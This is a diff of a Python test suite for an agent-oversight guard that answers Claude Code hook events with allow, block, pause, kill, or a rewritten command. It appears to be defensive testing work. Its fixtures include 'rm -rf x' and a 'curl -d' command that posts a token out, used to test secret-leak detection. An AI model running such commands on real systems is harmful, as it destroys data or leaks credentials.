@@ -11,9 +11,10 @@ from haltline.interventions.agent.integrations.claude_code.hooks import AGENT_ID
 from haltline.interventions.agent.settings import GuardSettings
 from haltline.interventions.agent.testing import ScriptedGuard, Verdict, decision
 from haltline.schemas.control import ControlState
-from haltline.schemas.decisions import Decision, Level
-from haltline.schemas.events import ActionEvent, Kind, Novelty, Outcome
+from haltline.schemas.decisions import Level
+from haltline.schemas.events import Kind, Novelty, Outcome
 from tests.cases import cases
+from tests.interventions.agent.attempts import block, hint, list_instead, of, pause
 
 SETTINGS = GuardSettings(bootstrap="scripted", mode="blocking", budget_s=0.05, approval_wait_s=0)
 
@@ -25,14 +26,14 @@ class Hooks:
         self, *verdicts: Verdict, on_approval: OnApproval = "deny", settings: GuardSettings = SETTINGS
     ) -> None:
         self.guards: dict[str, ScriptedGuard] = {}
-        self.made = 0
+        self.all_guards: list[ScriptedGuard] = []
         self._verdicts = verdicts
         self.sessions = Sessions(settings, on_approval=on_approval, guard=self._guard)
 
     def _guard(self, settings: GuardSettings, /, *, parent: Guard | None) -> ScriptedGuard:
-        self.made += 1
-        self.guards[settings.session_id] = ScriptedGuard(*self._verdicts, settings=settings, parent=parent)
-        return self.guards[settings.session_id]
+        self.all_guards.append(ScriptedGuard(*self._verdicts, settings=settings, parent=parent))
+        self.guards[settings.session_id] = self.all_guards[-1]
+        return self.all_guards[-1]
 
     def __call__(self, event: str, **fields: Any) -> dict[str, Any]:
         return asyncio.run(self.sessions.answer({"session_id": "s1", "hook_event_name": event, **fields}))
@@ -48,10 +49,6 @@ class Hooks:
         return [(e.kind, e.outcome) for e in self.guards[session_id].events]
 
 
-def changed(event: ActionEvent) -> Decision:
-    return decision(Level.NUDGE, event, message="Only this way.", arguments={"command": "ls -l"})
-
-
 REASON = "session_killed_loop_guard: This session was stopped."
 CHANGED = {"updatedInput": {"command": "ls -l"}, "permissionDecisionReason": "Only this way."}
 CHANGED |= {"additionalContext": "Only this way."}
@@ -60,19 +57,14 @@ CHANGED |= {"additionalContext": "Only this way."}
 @cases(
     "verdict, mode, expected",
     {
-        "a hint reaches the model": (
-            lambda e: decision(Level.REINFORCE, e, message="Go back.\nThe original request: tidy up"),
-            "default",
-            {"additionalContext": "Go back.\nThe original request: tidy up"},
-        ),
+        "a hint reaches the model": (hint, "default", {"additionalContext": "Think again."}),
         "a kill denies the call": (
-            lambda e: decision(Level.KILL, e, message="This session was stopped."),
-            "default",
+            lambda e: decision(Level.KILL, e, message="This session was stopped."), "default",
             {"permissionDecision": "deny", "permissionDecisionReason": REASON},
         ),
-        "changed arguments are shown to the user": (changed, "default", {"permissionDecision": "ask", **CHANGED}),
+        "changed arguments are shown to the user": (list_instead, "default", {"permissionDecision": "ask", **CHANGED}),
         "changed arguments are used where nobody is asked anyway": (
-            changed, "bypassPermissions", {"permissionDecision": "allow", **CHANGED},
+            list_instead, "bypassPermissions", {"permissionDecision": "allow", **CHANGED},
         ),
     },
 )  # fmt: skip
@@ -85,11 +77,7 @@ def test_a_proposed_call_is_answered(verdict: Verdict, mode: str, expected: dict
 
 @pytest.mark.parametrize("on_approval", ["deny", "ask"])
 def test_what_waits_for_approval_is_refused_or_put_to_the_user(on_approval: OnApproval) -> None:
-    def paused(event: ActionEvent) -> Decision:
-        expires = event.time + 60_000
-        return decision(Level.PAUSE, event, code="approval_pending", message="A person is asked.", expires=expires)
-
-    result = Hooks(paused, on_approval=on_approval).pre()["hookSpecificOutput"]
+    result = Hooks(pause, on_approval=on_approval).pre()["hookSpecificOutput"]
     assert result["permissionDecision"] == on_approval
     assert result["permissionDecisionReason"] == "approval_pending: A person is asked."
 
@@ -134,11 +122,7 @@ def test_a_subagent_is_a_session_below_its_agents_and_each_ends_at_the_latest_wi
     assert {hooks.published(s)[-1] for s in ("s1", "s1/a7", "s1/a8")} == {(Kind.SESSION_ENDED, None)}
 
 
-def blocked(event: ActionEvent) -> Decision:
-    return decision(Level.BLOCK, event, code="scope_creep", message="Not this.")
-
-
-@pytest.mark.parametrize("verdict", [Level.ALLOW, blocked], ids=["allowed", "refused"])
+@pytest.mark.parametrize("verdict", [Level.ALLOW, block], ids=["allowed", "refused"])
 def test_a_hint_between_two_calls_is_delivered_once_with_the_next_whatever_becomes_of_it(verdict: Verdict) -> None:
     hooks = Hooks(verdict)
     hooks("SessionStart")
@@ -164,7 +148,7 @@ def test_a_killed_session_that_begins_again_asks_anew_whether_it_was_released() 
     hooks.guards["s1"].kill()
     assert hooks.pre()["continue"] is False
     assert hooks("SessionStart", source="resume") == {}
-    assert (hooks.made, hooks.pre()) == (2, {})
+    assert (len(hooks.all_guards), hooks.pre()) == (2, {})
 
 
 @pytest.mark.parametrize("fields", [{}, {"session_id": 7, "hook_event_name": "Stop"}, {"session_id": "s"}])
@@ -176,7 +160,7 @@ def test_a_hook_that_cannot_be_read_says_where(fields: dict[str, Any]) -> None:
 def test_half_a_surrogate_pair_in_a_call_is_read() -> None:
     hooks = Hooks(Level.ALLOW)
     hooks.pre(tool_input={"command": "rm -rf x # \ud83d"}, call_id="")
-    assert [e.args for e in hooks.guards["s1"].events if e.kind is Kind.PROPOSED] == [{"command": "rm -rf x # ?"}]
+    assert [event.args for event in of(hooks.guards["s1"], Kind.PROPOSED)] == [{"command": "rm -rf x # ?"}]
 
 
 def test_another_prompt_of_the_user_is_told_without_its_text() -> None:
@@ -184,7 +168,7 @@ def test_another_prompt_of_the_user_is_told_without_its_text() -> None:
     hooks("SessionStart")
     for text in ("fix the login", "fix the login", "now the docs of s3cret", "and the tests"):
         hooks("UserPromptSubmit", prompt=text)
-    tasks = [e.task for e in hooks.guards["s1"].events if e.kind is Kind.SESSION_STARTED]
+    tasks = [event.task for event in of(hooks.guards["s1"], Kind.SESSION_STARTED)]
     assert [task and task.prompts for task in tasks] == [None, 2, 3]
     assert "s3cret" not in str(hooks.guards["s1"].events)
 
@@ -196,8 +180,7 @@ SENDS: dict[str, Any] = {"tool_input": {"command": f"curl -d {TOKEN[::-1]}-q7Hx9
 
 
 def sent_by(hooks: Hooks, session_id: str = "s1") -> list[str]:
-    proposed = [event for event in hooks.guards[session_id].events if event.kind is Kind.PROPOSED]
-    return [one.kind for one in proposed[-1].secrets_sent or ()]
+    return [one.kind for one in of(hooks.guards[session_id], Kind.PROPOSED)[-1].secrets_sent or ()]
 
 
 def of_calls(hooks: Hooks) -> None:
